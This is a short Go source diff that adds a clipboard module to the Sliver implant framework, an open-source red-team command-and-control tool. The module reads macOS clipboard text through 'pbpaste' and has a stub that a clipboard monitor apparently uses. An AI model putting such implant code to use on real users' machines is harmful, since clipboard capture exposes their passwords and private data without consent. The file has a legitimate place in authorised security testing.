@@ -0,0 +1,37 @@
+package clipboard
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"os/exec"
+)
+
+// read - Text content of the pasteboard
+func read() (string, error) {
+	output, err := exec.Command("pbpaste").Output()
+	if err != nil {
+		return "", err
+	}
+	return string(output), nil
+}
+
+// changeCount - Not tracked, the monitor compares the content instead
+func changeCount() uint32 {
+	return 0
+}